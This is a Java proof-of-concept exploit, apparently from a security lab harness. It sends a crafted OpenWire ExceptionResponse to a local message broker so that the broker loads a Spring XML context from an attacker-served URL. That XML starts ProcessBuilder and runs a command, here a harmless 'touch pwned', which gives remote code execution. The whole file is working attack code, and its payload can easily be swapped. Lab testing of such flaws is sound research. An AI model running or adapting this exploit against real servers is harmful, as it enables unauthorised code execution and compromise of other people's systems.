import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.net.Socket;
import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String xml =
        "<beans xmlns='http://www.springframework.org/schema/beans'"
            + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
            + " xsi:schemaLocation='http://www.springframework.org/schema/beans"
            + " http://www.springframework.org/schema/beans/spring-beans.xsd'>"
            + "<bean class='java.lang.ProcessBuilder' init-method='start'><constructor-arg><list>"
            + "<value>touch</value><value>"
            + Attacker.WORK
            + "/pwned</value></list></constructor-arg></bean></beans>";
    Attacker.serve(Map.of("/a.xml", xml.getBytes()));
    System.out.println("lab: sent " + System.currentTimeMillis() + " OpenWire ExceptionResponse");
    try (Socket socket = new Socket("127.0.0.1", 8080)) {
      ByteArrayOutputStream body = new ByteArrayOutputStream();
      DataOutputStream out = new DataOutputStream(body);
      out.writeByte(31); // ExceptionResponse
      out.writeInt(1); // command id
      out.writeBoolean(true); // response required
      out.writeInt(0); // correlation id
      out.writeBoolean(true); // there is an exception
      out.writeBoolean(true);
      out.writeUTF("org.springframework.context.support.ClassPathXmlApplicationContext");
      out.writeBoolean(true);
      out.writeUTF(Attacker.WEB + "/a.xml");
      DataOutputStream wire = new DataOutputStream(socket.getOutputStream());
      wire.writeInt(body.size());
      wire.write(body.toByteArray());
      wire.flush();
      Thread.sleep(4_000);
    }
    Attacker.done();
  }
}
